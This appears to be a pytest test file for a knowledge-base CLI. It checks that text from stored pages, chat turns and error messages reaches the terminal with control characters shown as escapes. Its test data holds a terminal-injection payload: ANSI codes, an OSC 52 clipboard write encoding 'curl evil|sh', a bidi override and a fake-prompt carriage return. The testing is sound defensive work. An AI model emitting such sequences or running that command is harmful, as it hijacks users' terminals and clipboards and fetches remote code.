"""Text from stored pages, ingested sessions, chat turns and error messages reaches the terminal
made printable: an escape sequence, a clipboard write (OSC 52) or a bidi override in a page is
shown as an escape, not acted on by the user's terminal. ``--json`` output stays exact."""

from __future__ import annotations

import io
import json
import re
import shutil
from pathlib import Path

import pytest
from helpers.kbgit import git, kbmem, summit_session, write_json

from kbmem.agent.offline import markdown_literal
from kbmem.cli import main
from kbmem.memorize.template import init_kb
from kbmem.store.repository import KnowledgeBase
from kbmem.textutil import MarkdownTextStream, PrintableStream, json_text, markdown_text, printable

# Red text, a clipboard write of "curl evil|sh" ended by BEL, and a right-to-left override.
EVIL = "\x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil\u202c"
SHOWN = r"\x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eevil\u202c"
# What a terminal acts on, written out here rather than imported from kbmem: a character
# dropped from kbmem's list by mistake then fails the tests.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """``kbmem ARGS`` in this process: (exit code, stdout, stderr)."""
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def assert_printable(text: str) -> None:
    assert not RAW.findall(text), f"raw control characters reach the terminal: {text!r}"


# -- the function ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (EVIL, SHOWN),
        ("done\rfake prompt $ ", r"done\x0dfake prompt $ "),
        ("\x00\x08\x0b\x0c\x1f\x7f", r"\x00\x08\x0b\x0c\x1f\x7f"),
        ("\x80\x9b31m\x9d52;c;x\x9c\x9f", r"\x80\x9b31m\x9d52;c;x\x9c\x9f"),
        ("\u202a\u202b\u202c\u202d\u202e", r"\u202a\u202b\u202c\u202d\u202e"),
        ("\u2066\u2067\u2068\u2069", r"\u2066\u2067\u2068\u2069"),
    ],
    ids=["esc-osc52-bidi", "cr", "c0-del", "c1", "bidi-embed-override", "bidi-isolate"],
)
def test_printable_shows_what_a_terminal_would_act_on_as_escapes(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_printable_keeps_text_newlines_and_tabs() -> None:
    text = (
        "Café, Ünïcödé — naïve «quotes» ½ €\n"
        "\t漢字 かな 한국어 עברית العربية\n"
        "emoji 😀 👩\u200d👩\u200d👧 🇳🇴, no-break\u00a0space, soft\u00adhyphen\n"
    )
    assert printable(text) == text
    ascii_text = "".join(chr(c) for c in range(0x20, 0x7F))
    assert printable(ascii_text) == ascii_text


def test_printable_escapes_every_c0_and_c1_control_but_newline_and_tab() -> None:
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        if chr(code) not in "\n\t":
            assert printable(chr(code)) == f"\\x{code:02x}"


def test_printable_keeps_windows_line_ends() -> None:
    # A CR that ends a line moves nothing; a lone one lets text overwrite the line.
    assert printable("one\r\ntwo\rthree\r") == r"one" + "\r\n" + r"two\x0dthree\x0d"


def test_json_text_is_exact_json_a_terminal_shows_as_written() -> None:
    value = {"text": EVIL + " \x9b2J \u2067x\u2069 \x7f", "name": "Café 東京 😀", "n": [1, None]}
    text = json_text(value, indent=1)
    assert json.loads(text) == value  # the same value
    assert_printable(text)
    assert "Café 東京 😀" in text  # non-ASCII text stays readable
    assert "\\u202e" in text and "\\u009b" in text and "\\u007f" in text


# -- the commands ----------------------------------------------------------------------------

QUESTION = "What is the crane budget?\x1b[2J\n"


@pytest.fixture(scope="module")
def master(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One ingested session with ``EVIL`` in its title and a turn, and one chat turn whose
    question holds an escape sequence and whose answer quotes that turn (copy before use)."""
    root = tmp_path_factory.mktemp("evil") / "kb"
    init_kb(root, with_history=False)
    texts = [f"Maya: the crane budget is 14,500 euros {EVIL}.", "Noted: Oskar repairs the hose."]
    path = write_json(root.parent / "s.json", summit_session("crane", texts, title=f"Crane {EVIL}"))
    assert main(["--kb", str(root), "ingest", str(path)]) == 0
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("sys.stdin", io.StringIO(QUESTION))
        assert main(["--kb", str(root), "chat", "--no-tui", "--json"]) == 0
    return root


@pytest.fixture
def kb(master: Path, tmp_path: Path) -> Path:
    target = tmp_path / "kb"
    shutil.copytree(master, target, symlinks=True)
    return target


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["show", "crane/1"], f"\nMaya: the crane budget is 14,500 euros {SHOWN}.\n"),
        (["pages"], f"crane/1\t2026-04-01\tCrane {SHOWN}\n"),
        (["log", "crane/1"], f"Memorize session crane: Crane {SHOWN}  ["),
        (["search", "crane budget", "--tool", "bm25"], f"euros {SHOWN}."),
        (["turns"], r"What is the crane budget?\x1b[2J"),
        (["audit", "--last"], "Question:\n  What is the crane budget?\\x1b[2J\n"),
        (["audit", "--last"], f"    | Maya: the crane budget is 14,500 euros {SHOWN}.\n"),
        (["ask", "crane budget"], f"euros {SHOWN}."),
    ],
    ids=["show", "pages", "log", "search", "turns", "audit-question", "audit-intervals", "ask"],
)
def test_stored_text_is_printed_made_printable(
    kb: Path, capsys: pytest.CaptureFixture[str], args: list[str], expected: str
) -> None:
    code, out, err = run(capsys, "--kb", str(kb), *args)
    assert code == 0, err
    assert expected in out
    assert_printable(out + err)


def test_show_changes_nothing_else_and_json_stays_exact(
    kb: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    stored = git(kb, "show", "HEAD:tenants/default/pages/crane/1.md")
    assert EVIL in stored  # stored as given: only what reaches the terminal changes
    code, out, _err = run(capsys, "--kb", str(kb), "show", "crane/1")
    assert code == 0 and out == printable(stored)
    code, out, _err = run(capsys, "--kb", str(kb), "audit", "--last", "--json")
    audit = json.loads(out)
    assert code == 0 and audit["question"] == QUESTION.strip()
    assert any(EVIL in i["text"] for i in audit["intervals"])
    assert_printable(out)  # exact, and still safe to print: the controls are JSON escapes


def test_a_chat_streams_its_answer_made_printable(
    kb: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO(QUESTION))
    code, out, err = run(capsys, "--kb", str(kb), "chat", "--no-tui")
    assert code == 0, err
    # The answer quotes the page as Markdown (its brackets escaped): shown as plain text,
    # without the escapes, made printable.
    assert markdown_literal(f"euros {EVIL}.") != f"euros {EVIL}."
    assert printable(f"euros {EVIL}.") in out
    assert_printable(out + err)


@pytest.mark.parametrize(
    "text",
    ["one\r\ntwo\r\n", "lone\rcr at the end\r", "\r\r\n\r\n\r"],
    ids=["crlf", "lone-cr", "cr-runs"],
)
def test_a_streamed_answer_is_shown_as_the_whole_answer_would_be(text: str) -> None:
    """The chat's answer reaches stdout in pieces (``kbmem chat --no-tui``): wherever the
    pieces are cut, a CRLF split between two of them is still a line end, not a lone CR."""
    cuts = [[text[:n], text[n:]] for n in range(len(text) + 1)] + [list(text)]
    for pieces in cuts:
        out = io.StringIO()
        stream = PrintableStream(out)
        for piece in pieces:
            stream.write(piece)
        stream.end()
        assert out.getvalue() == printable(text), pieces


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            r"- Tobias: \*\*tin 4\*\* \[a\](b) x\_y \<b\> \#7 C:\\keys \q",
            r"- Tobias: **tin 4** [a](b) x_y <b> #7 C:\keys \q",
        ),
        ("a `co\\*de` and ``x\\` y`` then \\*", "a `co\\*de` and ``x\\` y`` then *"),
        ("an unclosed `tick \\* stays a tick", "an unclosed `tick * stays a tick"),
        ("```\nraw \\* here\n```\nafter \\*\n", "```\nraw \\* here\n```\nafter *\n"),
        ("  ~~~ py\n\\_\n~~~~\n\\_", "  ~~~ py\n\\_\n~~~~\n_"),
        ("ends with a backslash \\", "ends with a backslash \\"),
        ("one\r\ntwo \\_\r\n", "one\r\ntwo _\r\n"),
    ],
    ids=["escapes", "code-spans", "unclosed", "fence", "tilde-fence", "last-backslash", "crlf"],
)
def test_markdown_is_shown_as_plain_text_however_it_is_cut(text: str, shown: str) -> None:
    """The plain text of a Markdown answer (``kbmem chat --no-tui``, ``kbmem audit``) has no
    backslash escapes, but code keeps its backslashes; streamed, wherever the pieces are
    cut, it is the same as the whole answer's."""
    assert markdown_text(text) == shown
    cuts = [[text[:n], text[n:]] for n in range(len(text) + 1)] + [list(text)]
    for pieces in cuts:
        out = io.StringIO()
        stream = MarkdownTextStream(PrintableStream(out))
        for piece in pieces:
            stream.write(piece)
        stream.end()
        assert out.getvalue() == printable(shown), pieces


# -- errors and warnings ---------------------------------------------------------------------


def test_an_error_message_quoting_a_path(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    taken = tmp_path / f"kb{EVIL}"
    taken.mkdir()
    (taken / "file").write_text("")
    code, out, err = run(capsys, "init", str(taken))
    assert code == 2 and out == ""
    assert err == f"kbmem: error: DIR: {tmp_path}/kb{SHOWN} exists and is not empty\n"


def test_a_usage_error_quoting_an_argument(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["pages", f"extra{EVIL}"])
    _out, err = capsys.readouterr()
    assert f"unrecognized arguments: extra{SHOWN}" in err
    assert_printable(err)


def test_a_logged_warning_quoting_a_folder_name(empty_kb: KnowledgeBase) -> None:
    root = empty_kb.root
    (root / "tenants" / f"x{EVIL}").mkdir(parents=True)
    (root / "tenants" / f"x{EVIL}" / "a.md").write_text("hello\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "A folder made by hand")
    # In a real process: in this one, pytest's handlers would catch the warning.
    done = kbmem("--kb", str(root), "reindex", "--all-tenants")
    assert done.returncode == 0, done.stderr
    assert f"WARNING: skipping tenants/x{SHOWN}: tenantId: " in done.stderr
    assert_printable(done.stderr)
